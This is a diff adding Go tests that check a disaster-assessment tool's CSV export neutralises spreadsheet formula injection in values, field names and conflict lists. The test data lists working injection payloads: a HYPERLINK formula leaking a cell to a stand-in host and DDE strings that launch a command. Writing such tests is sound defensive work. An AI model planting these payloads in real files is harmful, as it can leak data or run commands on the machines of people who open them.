@@ -11,12 +11,14 @@ import (
 	"os"
 	"path/filepath"
 	"reflect"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
 
 	"lifeline/node"
 	"lifeline/node/identity"
+	"lifeline/node/store"
 	"lifeline/schemas"
 	"lifeline/syncproto"
 )
@@ -403,6 +405,144 @@ func TestExportCSVNamesFieldsInConflict(t *testing.T) {
 	_, rows := exportCSV(t, n, "damage-assessment", node.ExportOptions{})
 	if got := column(rows[0], rows[1], "conflict"); got != "damage_level;notes" {
 		t.Fatalf("conflict column %q, want the two fields in the kit's order", got)
+	}
+}
+
+// The attacks of a CSV export: text a spreadsheet would run as a formula,
+// in values, in field names a node chose (the conflict column) and at the
+// start of items of a list.
+var formulas = []string{
+	`=HYPERLINK("http://x.example/?leak="&A1,"click")`,
+	"+cmd|' /C calc'!A0",
+	"-2+3+cmd|' /C calc'!A0",
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	"\t=1+1",
+	"\r=1+1",
+	"-",
+}
+
+// startsFormula reports whether a spreadsheet would run a cell: it starts
+// like a formula and is not a negative number.
+func startsFormula(c string) bool {
+	return c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !negative.MatchString(c)
+}
+
+var negative = regexp.MustCompile(`^-[0-9]+(\.[0-9]+)?$`)
+
+func TestDefuse(t *testing.T) {
+	for in, want := range map[string]string{
+		"-89.1": "-89.1", "-5": "-5", "17.25": "17.25", "": "", "Succotz": "Succotz", "'=x": "'=x",
+		"-": "'-", "-1e5": "'-1e5", "-17.2,-88.7": "'-17.2,-88.7", "-.5": "'-.5", "-5.": "'-5.", "+5": "'+5",
+		"=1+1": "'=1+1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+	} {
+		if got := node.Defuse(in); got != want {
+			t.Errorf("defuse(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// No cell of an export starts a formula, whatever the records hold or the
+// node that wrote them named its fields; negative numbers stay numbers.
+func TestExportCSVDefusesEveryCell(t *testing.T) {
+	ctx := context.Background()
+	n := openNode(t, "hq-belmopan", syncproto.RoleHQ, "Cayo")
+	ca, err := identity.NewCA("Test CA")
+	if err != nil {
+		t.Fatal(err)
+	}
+	other := openNode(t, "cayo-02", syncproto.RoleField, "Cayo")
+	for _, m := range []*node.Node{n, other} {
+		if err := m.EnrollWith(ctx, ca); err != nil {
+			t.Fatal(err)
+		}
+	}
+	carry := func(from, to *node.Node) {
+		t.Helper()
+		path := filepath.Join(t.TempDir(), "bundle")
+		f, err := os.Create(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := from.ExportBundle(ctx, f, nil); err != nil {
+			t.Fatal(err)
+		}
+		f.Close()
+		if _, err := to.ImportBundle(ctx, path); err != nil {
+			t.Fatal(err)
+		}
+	}
+	text := func(s string) []byte {
+		b, err := syncproto.Marshal(s)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return b
+	}
+	quote := func(s string) string {
+		b, _ := json.Marshal(s)
+		return string(b)
+	}
+	id := mustAdd(t, n, "damage-assessment", fmt.Sprintf(`{"district":"Cayo","village":%s,"address":%s,"lat":17.1,"lon":-89.1,
+		"structure_type":"thatch","damage_level":1,"household_size":4,"head_of_household":%s,"phone":%s,"notes":%s,
+		"reported_by":%s,"reported_at":"2026-11-27T10:00:00Z"}`,
+		quote(formulas[0]), quote(formulas[1]), quote(formulas[2]), quote(formulas[3]), quote(formulas[4]), quote(formulas[5])))
+	carry(n, other)
+	// Each node sets fields the kit does not declare, named as an attacker
+	// would, to different values: both are in conflict here.
+	for i, m := range []*node.Node{n, other} {
+		ty, _ := n.Type("damage-assessment")
+		e := store.Edit{Record: id, Lane: uint8(ty.Priority), Kit: ty.Kit, Type: ty.Name, Version: ty.Version, Author: "vol-1"}
+		for _, f := range formulas[:4] {
+			e.Fields = append(e.Fields, syncproto.FieldChange{Name: f, Value: text(fmt.Sprint(f, i))})
+		}
+		slices.SortFunc(e.Fields, func(a, b syncproto.FieldChange) int { return strings.Compare(a.Name, b.Name) })
+		if err := node.WriteEdit(m, ctx, e); err != nil {
+			t.Fatal(err)
+		}
+	}
+	carry(other, n)
+
+	for _, opts := range []node.ExportOptions{{}, {Personal: true}} {
+		out, rows := exportCSV(t, n, "damage-assessment", opts)
+		for i, row := range rows {
+			for j, c := range row {
+				if startsFormula(c) {
+					t.Errorf("row %d, column %q: %q starts a formula", i, rows[0][j], c)
+				}
+			}
+		}
+		// Read with ";" between cells, as a spreadsheet in some locales
+		// reads it, no cell a list or the conflict column makes starts a
+		// formula either.
+		for _, line := range strings.Split(out, "\n") {
+			for _, c := range strings.Split(line, ";")[1:] {
+				if startsFormula(strings.TrimPrefix(c, `"`)) {
+					t.Errorf("read at \";\": %q starts a formula", c)
+				}
+			}
+		}
+		h, r := rows[0], rows[1]
+		if got := column(h, r, "village"); got != "'"+formulas[0] {
+			t.Errorf("village = %q", got)
+		}
+		if got := column(h, r, "lon"); got != "-89.1" {
+			t.Errorf("lon = %q, want the negative number as it is", got)
+		}
+		conflicts := strings.Split(column(h, r, "conflict"), ";")
+		if len(conflicts) != 4 {
+			t.Fatalf("conflict column %q, want the four fields the nodes named", column(h, r, "conflict"))
+		}
+		for _, c := range conflicts {
+			if !strings.HasPrefix(c, "'") {
+				t.Errorf("conflict column names %q", c)
+			}
+		}
+		if got := column(h, r, "notes"); got != "'"+formulas[4] {
+			t.Errorf("notes = %q", got)
+		}
+		if got := column(h, r, "address"); got != "'"+formulas[1] {
+			t.Errorf("address = %q", got)
+		}
 	}
 }
 
